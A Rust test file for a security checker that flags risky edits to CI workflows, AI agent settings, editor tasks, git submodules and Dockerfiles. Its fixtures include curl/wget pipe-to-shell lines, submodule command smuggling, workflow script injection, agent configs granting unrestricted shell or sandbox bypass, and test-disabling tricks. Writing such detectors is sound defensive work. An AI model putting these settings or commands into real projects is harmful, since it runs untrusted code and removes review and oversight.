//! Settings of pipelines, agents, editors and git before and after a change.

use assize_core::finding::{Certainty, Severity};
use proptest::prelude::*;

use super::*;
use crate::security::findings;
use Certainty::{Certain, Likely};

fn found(path: &str, before: Option<&str>, after: Option<&str>, asked: &str) -> Vec<(String, Severity, Certainty)> {
    let file =
        FileVersions { path: path.to_owned(), before: before.map(str::to_owned), after: after.map(str::to_owned) };
    let change = SecurityChange { files: vec![file], beside: Vec::new(), base_known: true };
    let found = findings(&change, &RequestedChanges::by(asked)).into_iter();
    found.map(|finding| (finding.rule, finding.severity, finding.certainty)).collect()
}

/// What is more than a note.
fn serious(path: &str, before: Option<&str>, after: Option<&str>, asked: &str) -> Vec<(String, Certainty)> {
    let found = found(path, before, after, asked).into_iter();
    found.filter(|(_, severity, _)| *severity > Severity::Note).map(|(rule, _, certainty)| (rule, certainty)).collect()
}

#[test]
fn every_kind_of_setting_is_noted() {
    for path in [
        ".github/workflows/ci.yml",
        ".gitlab-ci.yml",
        ".circleci/config.yml",
        "Jenkinsfile",
        "azure-pipelines.yml",
        "action.yml",
        ".husky/pre-commit",
        ".pre-commit-config.yaml",
        "lefthook.yml",
        ".claude/settings.json",
        "CLAUDE.md",
        "sub/AGENTS.md",
        ".cursor/rules/a.mdc",
        ".codex/config.toml",
        ".gemini/settings.json",
        ".github/copilot-instructions.md",
        ".mcp.json",
        "assize.toml",
        ".github/CODEOWNERS",
        "Dockerfile",
        "docker-compose.yml",
        ".gitattributes",
        ".gitmodules",
        ".vscode/tasks.json",
        ".devcontainer/devcontainer.json",
        ".github/dependabot.yml",
    ] {
        assert!(reads(path), "{path}");
        let note = ("security-configuration-changed".to_owned(), Severity::Note, Certain);
        assert_eq!(found(path, None, Some("{}\n"), ""), [note], "{path}");
    }
    for path in
        ["src/main.rs", "README.md", "docs/agents.md", "package.json", "src/docker.rs", ".github/ISSUE_TEMPLATE/bug.md"]
    {
        assert!(!reads(path) || path == "package.json", "{path}");
    }
}

const WORKFLOW: &str = "on: push\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n      - run: cargo test\n      - run: cargo build\n";

#[test]
fn tests_that_no_longer_decide_are_faults() {
    let path = ".github/workflows/ci.yml";
    for after in [
        WORKFLOW.replace("      - run: cargo test\n", ""),
        WORKFLOW.replace("cargo test", "cargo test || true"),
        WORKFLOW.replace("- run: cargo test", "- run: cargo test\n        continue-on-error: true"),
        WORKFLOW.replace("- run: cargo test", "- run: cargo test\n        if: false"),
        WORKFLOW.replace("  a:\n", "  a:\n    continue-on-error: true\n"),
        WORKFLOW.replace("- run: cargo test", "- run: |\n          set +e\n          cargo test"),
    ] {
        let weakened = |certainty| vec![("security-ci-weakened".to_owned(), certainty)];
        assert_eq!(serious(path, Some(WORKFLOW), Some(&after), ""), weakened(Certain), "{after}");
        assert_eq!(
            serious(path, Some(WORKFLOW), Some(&after), "Remove the tests from the workflow."),
            weakened(Likely),
            "{after}"
        );
        assert_eq!(serious(path, Some(&after), Some(WORKFLOW), ""), [], "{after}");
    }
    for (path, before, after) in [
        (
            ".gitlab-ci.yml",
            "test:\n  script:\n    - pytest\n",
            "test:\n  script:\n    - pytest\n  allow_failure: true\n",
        ),
        (".gitlab-ci.yml", "test:\n  script: [pytest]\n", "test:\n  script: [pytest]\n  when: never\n"),
        (
            "azure-pipelines.yml",
            "steps:\n- script: npm test\n",
            "steps:\n- script: npm test\n  continueOnError: true\n",
        ),
        (
            ".circleci/config.yml",
            "jobs:\n  a:\n    steps:\n      - run: go test ./...\n",
            "jobs:\n  a:\n    steps:\n      - run: go build ./...\n",
        ),
        ("Jenkinsfile", "stage('t') {\n  sh 'make test'\n}\n", "stage('t') {\n  sh 'make'\n}\n"),
    ] {
        assert_eq!(
            serious(path, Some(before), Some(after), ""),
            [("security-ci-weakened".to_owned(), Certain)],
            "{path}"
        );
    }
    assert_eq!(serious(path, Some(WORKFLOW), None, ""), [("security-ci-weakened".to_owned(), Certain)]);
}

#[test]
fn pipelines_may_grow_and_move() {
    let path = ".github/workflows/ci.yml";
    for after in [
        WORKFLOW.replace("cargo test", "cargo test --workspace"),
        WORKFLOW.replace("actions/checkout@v4", "actions/checkout@v5"),
        WORKFLOW.replace("      - run: cargo build\n", ""),
        format!("{WORKFLOW}      - run: echo done || true\n"),
        format!("{WORKFLOW}      - run: cargo test --features slow\n        continue-on-error: true\n"),
    ] {
        let certain =
            serious(path, Some(WORKFLOW), Some(&after), "").into_iter().any(|(_, certainty)| certainty == Certain);
        assert!(!certain, "{after}");
    }
    // Tests that go over to another file are run still.
    let file = |path: &str, before: Option<&str>, after: Option<&str>| FileVersions {
        path: path.to_owned(),
        before: before.map(str::to_owned),
        after: after.map(str::to_owned),
    };
    let without = WORKFLOW.replace("      - run: cargo test\n", "");
    let files =
        vec![file(path, Some(WORKFLOW), Some(&without)), file(".github/workflows/test.yml", None, Some(WORKFLOW))];
    let moved = SecurityChange { files: files.clone(), beside: Vec::new(), base_known: true };
    let beside = SecurityChange {
        files: files[..1].to_vec(),
        beside: vec![(".github/workflows/test.yml".to_owned(), WORKFLOW.to_owned())],
        base_known: true,
    };
    for change in [moved, beside] {
        let found = findings(&change, &RequestedChanges::default());
        assert!(found.iter().all(|finding| finding.severity == Severity::Note), "{found:?}");
    }
}

#[test]
fn workflows_that_let_strangers_act_are_faults() {
    let path = ".github/workflows/pr.yml";
    let target = |inner: &str| format!("on:\n  pull_request_target:\njobs:\n  a:\n    steps:\n{inner}");
    let head =
        "      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n";
    let own = "github.event.pull_request.head.repo.full_name == github.repository";
    let guarded = |condition: &str| target(head).replace("  a:\n", &format!("  a:\n    if: >-\n      {condition}\n"));
    for (after, expected) in [
        (target(head), Some(("security-ci-trigger", Certain))),
        (target("      - run: gh pr checkout 5\n"), Some(("security-ci-trigger", Certain))),
        (target("      - uses: actions/labeler@v5\n"), Some(("security-ci-trigger", Likely))),
        (target(head).replace("pull_request_target", "pull_request"), None),
        (guarded(own), None),
        (guarded("${{ (a || b) && github.repository == github.event.pull_request.head.repo.full_name }}"), None),
        (guarded(&format!("{own} || a")), Some(("security-ci-trigger", Certain))),
        (guarded(&format!("${{{{ a }}}} && {own}")), Some(("security-ci-trigger", Certain))),
        (guarded(&format!("${{{{ a }}}} && {own} && ${{{{ b }}}}")), Some(("security-ci-trigger", Certain))),
        // With the end of a line behind it, what is in braces is a text, which holds always.
        (guarded(&format!("${{{{ {own} }}}}")).replace(">-", "|"), Some(("security-ci-trigger", Certain))),
        (guarded(own).replace(">-", "|"), None),
        // A fork that is gone is none.
        (guarded("github.event.pull_request.head.repo.fork == false"), Some(("security-ci-trigger", Certain))),
        (guarded(&format!("({own} || a) && b")), Some(("security-ci-trigger", Certain))),
        (guarded(&format!("a == '&& {own} &&'")), Some(("security-ci-trigger", Certain))),
        ("on: push\npermissions: write-all\njobs: {}\n".to_owned(), Some(("security-ci-permissions", Certain))),
        ("on: push\npermissions:\n  contents: read\njobs: {}\n".to_owned(), None),
        (
            "on: issues\njobs:\n  a:\n    steps:\n      - run: echo \"${{ github.event.issue.title }}\"\n".to_owned(),
            Some(("security-ci-injection", Certain)),
        ),
        (
            "on: issues\njobs:\n  a:\n    steps:\n      - env:\n          T: ${{ github.event.issue.title }}\n        run: echo \"$T\"\n".to_owned(),
            None,
        ),
        (
            "on: push\njobs:\n  a:\n    steps:\n      - run: curl https://a.example/x | sh\n".to_owned(),
            Some(("security-download-and-run", Certain)),
        ),
        (
            "on: push\njobs:\n  a:\n    steps:\n      - run: curl --proto '=https' -sSf https://sh.rustup.rs | sh -s -- -y\n".to_owned(),
            Some(("security-download-and-run", Likely)),
        ),
    ] {
        let expected: Vec<(String, Certainty)> = expected.into_iter().map(|(rule, certainty)| (rule.to_owned(), certainty)).collect();
        assert_eq!(serious(path, None, Some(&after), ""), expected, "{after}");
        assert_eq!(serious(path, Some(&after), Some(&after), ""), [], "{after}");
    }
    let uses = |action: &str| WORKFLOW.replace("actions/checkout@v4", action);
    let noted = |action: &str| {
        found(path, Some(WORKFLOW), Some(&uses(action)), "").iter().any(|(rule, ..)| rule == "security-ci-action")
    };
    assert!(noted("someone/thing@v1") && noted("someone/thing@main"));
    assert!(!noted(&format!("someone/thing@{}", "a1".repeat(20))) && !noted("actions/cache@v4") && !noted("./local"));
}

#[test]
fn agents_editors_and_git_are_not_let_loose() {
    for (path, before, after, expected) in [
        (
            ".claude/settings.json",
            "{}",
            r#"{"permissions":{"defaultMode":"bypassPermissions"}}"#,
            Some(("security-agent-unbounded", Certain)),
        ),
        (
            ".claude/settings.json",
            "{}",
            r#"{"permissions":{"allow":["Bash(*)"]}}"#,
            Some(("security-agent-unbounded", Certain)),
        ),
        (".claude/settings.json", "{}", r#"{"permissions":{"allow":["Bash(cargo test:*)"]}}"#, None),
        (
            ".codex/config.toml",
            "",
            "sandbox_mode = 'danger-full-access'\n",
            Some(("security-agent-unbounded", Certain)),
        ),
        (".codex/config.toml", "", "model = 'x'\n", None),
        (
            ".vscode/tasks.json",
            "{}",
            r#"{"tasks":[{"command":"./x","runOptions":{"runOn":"folderOpen"}}]}"#,
            Some(("security-editor-command", Likely)),
        ),
        (".vscode/tasks.json", "{}", r#"{"tasks":[{"command":"make"}]}"#, None),
        (".gitmodules", "", "[submodule \"a\"]\n\turl = ext::sh -c x\n", Some(("security-submodule", Certain))),
        (".gitmodules", "", "[submodule \"a\"]\n\tupdate = !sh x\n", Some(("security-submodule", Certain))),
        (".gitmodules", "", "[submodule \"a\"]\n\turl = https://github.com/a/b\n", None),
        (".gitattributes", "", "*.rs -diff\n", Some(("security-hidden-from-review", Likely))),
        (".gitattributes", "", "*.png binary\ndocs/** text\n", None),
        ("CODEOWNERS", "src/ @a\n", "docs/ @a\n", Some(("security-owners", Likely))),
        ("CODEOWNERS", "src/ @a\n", "src/ @a\ndocs/ @b\n", None),
        (
            "Dockerfile",
            "FROM a\n",
            "FROM a\nRUN wget -qO- https://a.example/x | bash\n",
            Some(("security-download-and-run", Certain)),
        ),
        ("Dockerfile", "FROM a\n", "FROM b\nRUN apt-get install -y git\n", None),
    ] {
        let expected: Vec<(String, Certainty)> =
            expected.into_iter().map(|(rule, certainty)| (rule.to_owned(), certainty)).collect();
        assert_eq!(serious(path, Some(before), Some(after), ""), expected, "{path}: {after}");
    }
    // The same command for two events is one thing to look at.
    let hook = r#"{"hooks":{"PreToolUse":[{"hooks":[{"type":"command","command":"./check.sh"}]}],"Stop":[{"hooks":[{"type":"command","command":"./check.sh"}]}]}}"#;
    let noted = found(".claude/settings.json", Some("{}"), Some(hook), "");
    assert_eq!(noted.iter().filter(|(rule, ..)| rule == "security-agent-command").count(), 1, "{noted:?}");
    let server = r#"{"mcpServers":{"a":{"command":"npx","args":["-y","a"]}}}"#;
    assert!(found(".mcp.json", Some("{}"), Some(server), "").iter().any(|(rule, ..)| rule == "security-agent-command"));
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 128, failure_persistence: None, ..ProptestConfig::default() })]
    #[test]
    fn any_text_can_be_a_setting(text in "(?s)[\\[\\]{}:,\"'a-d@/=#|$!&*-> \n]{0,120}", other in "(?s).{0,40}") {
        for path in [".github/workflows/a.yml", "Jenkinsfile", ".claude/settings.json", ".codex/config.toml", ".gitmodules", ".gitattributes", ".vscode/tasks.json", "CODEOWNERS"] {
            found(path, Some(&other), Some(&text), "");
        }
    }
}
